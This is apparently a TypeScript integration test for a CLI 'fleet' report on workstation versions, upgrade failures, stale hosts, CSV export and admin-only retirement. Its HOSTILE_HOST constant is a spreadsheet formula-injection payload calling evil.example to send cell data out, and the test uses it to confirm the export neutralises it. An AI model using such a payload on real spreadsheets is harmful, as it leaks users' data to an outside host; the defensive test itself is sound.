/**
 * The fleet view through the real CLI (separate processes) on SQLite and PostgreSQL: convergence and versions in use
 * checked against the registry rows, failed upgrades with their code from the structured column, stale workstations
 * on the server clock, the CSV export parsed back (a hostile host name stays text), and retiring: administrators only,
 * audited, the workstation back in the numbers once it starts again.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { FleetSummary } from '../../contract/fleet';
import { serverNowPlus } from '../../db/serverTime';
import { backends, TestDatabase, tempDir } from '../helpers/backends';
import { SimWorkstation, simWorkstation } from '../helpers/workstationSim';
import { parseCsv } from './fleetCsvParse';

const HOSTILE_HOST = '=HYPERLINK("http://evil.example/?q="&A1,"open, me")\r\nline2';
const DAY_MS = 86_400_000;
const ME = os.userInfo().username;

interface FleetJson {
  fleet: FleetSummary;
  csv?: string;
}

for (const backend of backends()) {
  describe(`fleet view through the CLI on ${backend.name}`, () => {
    let tdb: TestDatabase;
    let admin: SimWorkstation;
    let clerk: SimWorkstation;
    const ws: Record<string, SimWorkstation> = {};
    const outDir = tempDir('lockstep-fleet-csv-');

    before(async () => {
      tdb = await backend.create();
      admin = simWorkstation({ id: 'ws-admin', dbUrl: tdb.configUrl, installed: '2.0.0', admin: true });
      clerk = simWorkstation({ id: 'ws-clerk', dbUrl: tdb.configUrl, installed: '2.0.0' });
      ws['old'] = simWorkstation({ id: 'ws-old', dbUrl: tdb.configUrl, installed: '1.0.0', policy: 'warn' });
      ws['tester'] = simWorkstation({ id: 'ws-tester', dbUrl: tdb.configUrl, installed: '2.1.0', ring: 'test' });
      ws['hostile'] = simWorkstation({ id: 'ws-hostile', dbUrl: tdb.configUrl, installed: '2.0.0', hostName: HOSTILE_HOST });
      ws['gone'] = simWorkstation({ id: 'ws-gone', dbUrl: tdb.configUrl, installed: '1.5.0', policy: 'warn' });
      assert.equal((await admin.cli(['db', 'migrate'])).code, 0);
      const yes = await admin.json(['gate', '--answer', 'yes']);
      assert.equal(yes.code, 0, yes.stderr);
      for (const w of [clerk, ...Object.values(ws)]) await w.cli(['gate']);
      // ws-gone last started 30 days ago (by the server's clock, as every start is stamped).
      const db = await tdb.open();
      try {
        await db.knex('lockstep_workstations').where({ workstation_id: 'ws-gone' }).update({ last_start: serverNowPlus(db.knex, -30 * DAY_MS) });
      } finally {
        await db.close();
      }
    });
    after(async () => {
      await tdb.drop();
      fs.rmSync(outDir, { recursive: true, force: true });
    });

    async function registryRows(): Promise<Array<Record<string, unknown>>> {
      const db = await tdb.open();
      try {
        return (await db.knex('lockstep_workstations').select('*')) as Array<Record<string, unknown>>;
      } finally {
        await db.close();
      }
    }

    test('convergence, versions in use, test workstations, failed upgrades with code and time, stale ones', async () => {
      const r = await clerk.json<FleetJson>(['fleet', '--stale-days', '7']);
      assert.equal(r.code, 0, r.stderr);
      const f = r.body.fleet;
      const rows = await registryRows();
      // The numbers, checked against the rows themselves.
      assert.equal(f.total, rows.length);
      assert.equal(f.onReleased, rows.filter((x) => x['installed_version'] === '2.0.0').length);
      assert.deepEqual([f.released, f.total, f.onReleased], ['2.0.0', 6, 3]);
      assert.deepEqual(f.versions, [
        { version: '2.0.0', count: 3, released: true },
        { version: '2.1.0', count: 1, released: false },
        { version: '1.5.0', count: 1, released: false },
        { version: '1.0.0', count: 1, released: false },
      ]);
      assert.deepEqual(f.versions.reduce((n, v) => n + v.count, 0), f.total);
      assert.deepEqual(f.testWorkstations.map((w) => w.workstationId), ['ws-tester']);
      // The older workstations tried to upgrade (no package in the database): the code is in its own column.
      const coded = rows.filter((x) => x['last_result_code'] !== null).map((x) => [x['workstation_id'], x['last_result_code']]).sort();
      assert.deepEqual(coded, [['ws-gone', 'E_UPGRADE_UNAVAILABLE'], ['ws-old', 'E_UPGRADE_UNAVAILABLE']]);
      assert.deepEqual(f.failed.map((x) => [x.workstationId, x.code]).sort(), coded);
      for (const x of f.failed) assert.ok(x.at && Math.abs(Date.parse(x.at) - Date.parse(f.at)) < 10 * 60_000, `failure time ${x.at} near ${f.at}`);
      assert.deepEqual(f.stale.map((w) => [w.workstationId, w.daysSinceStart]), [['ws-gone', 30]]);
      assert.equal(f.retired.length, 0);
      const text = await clerk.cli(['fleet', '--stale-days', '7']);
      assert.match(text.stdout, /3 of 6 workstations run the released version 2\.0\.0/);
      assert.match(text.stdout, /ws-gone/);
      const bad = await clerk.json<{ error: { code: string } }>(['fleet', '--stale-days', 'x']);
      assert.deepEqual([bad.code, bad.body.error.code], [2, 'E_USAGE']);
    });

    test('the CSV export parses back (RFC 4180) and a hostile host name stays text', async () => {
      const file = path.join(outDir, `fleet-${backend.name}.csv`);
      const r = await clerk.json<FleetJson>(['fleet', '--csv', file]);
      assert.equal(r.code, 0, r.stderr);
      const raw = fs.readFileSync(file, 'utf8');
      assert.ok(raw.endsWith('\r\n'));
      const [head, ...records] = parseCsv(raw);
      assert.deepEqual(head, ['host', 'user', 'workstation_id', 'installed_version', 'on_released', 'ring', 'last_start', 'days_since_start', 'stale', 'last_result_code', 'last_result_at', 'last_result', 'grace', 'grace_until']);
      assert.equal(records.length, r.body.fleet.total);
      const byId = new Map(records.map((x) => [x[2], x]));
      for (const w of r.body.fleet.workstations) {
        const rec = byId.get(w.workstationId)!;
        assert.deepEqual([rec[3], rec[4], rec[5], rec[6], rec[9]], [w.installedVersion, String(w.onReleased), w.ring, w.lastStart, w.lastResultCode ?? '']);
      }
      // The formula arrives as text: apostrophe first, quotes, comma and line break intact.
      assert.equal(byId.get('ws-hostile')![0], `'${HOSTILE_HOST}`);
      for (const rec of records) for (const cell of rec) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)} could run as a formula`);
      assert.equal(fs.statSync(file).mode & 0o777, 0o600);
    });

    test('retire: refused for a non-administrator, audited for an administrator, back once it starts again', async () => {
      const before = (await clerk.json<FleetJson>(['fleet'])).body.fleet;
      const denied = await clerk.json<{ error: { code: string } }>(['fleet', 'retire', 'ws-gone']);
      assert.deepEqual([denied.code, denied.body.error.code], [1, 'E_NOT_ADMIN']);
      assert.equal((await registryRows()).find((x) => x['workstation_id'] === 'ws-gone')!['retired_at'], null);
      const missing = await admin.json<{ error: { code: string } }>(['fleet', 'retire', 'no-such-pc']);
      assert.deepEqual([missing.code, missing.body.error.code], [1, 'E_NOT_FOUND']);

      const done = await admin.json<{ retired: { workstationId: string } }>(['fleet', 'retire', 'ws-gone']);
      assert.equal(done.code, 0, done.stderr);
      const row = (await registryRows()).find((x) => x['workstation_id'] === 'ws-gone')!;
      assert.notEqual(row['retired_at'], null);
      assert.equal(row['retired_by'], ME);
      const audit = (await admin.json<{ events: Array<{ action: string; outcome: string; actor: string; workstationId: string; detail: Record<string, unknown> }> }>(['events'])).body.events.filter((e) => e.action === 'retire-workstation');
      assert.equal(audit.length, 1, 'exactly one audit row, none for the refused attempt');
      assert.deepEqual([audit[0]!.outcome, audit[0]!.actor, audit[0]!.workstationId, audit[0]!.detail['workstationId'], audit[0]!.detail['installedVersion']], ['ok', ME, 'ws-admin', 'ws-gone', '1.5.0']);

      const afterRetire = (await clerk.json<FleetJson>(['fleet'])).body.fleet;
      assert.deepEqual([afterRetire.total, afterRetire.onReleased], [before.total - 1, before.onReleased]);
      assert.equal(afterRetire.workstations.some((w) => w.workstationId === 'ws-gone'), false);
      assert.equal(afterRetire.versions.some((v) => v.version === '1.5.0'), false);
      assert.deepEqual(afterRetire.retired.map((x) => x.workstationId), ['ws-gone']);

      await ws['gone']!.cli(['gate']); // it starts again
      const back = (await clerk.json<FleetJson>(['fleet'])).body.fleet;
      assert.deepEqual([back.total, back.retired.length], [before.total, 0]);
      assert.equal(back.stale.length, 0);
    });
  });
}
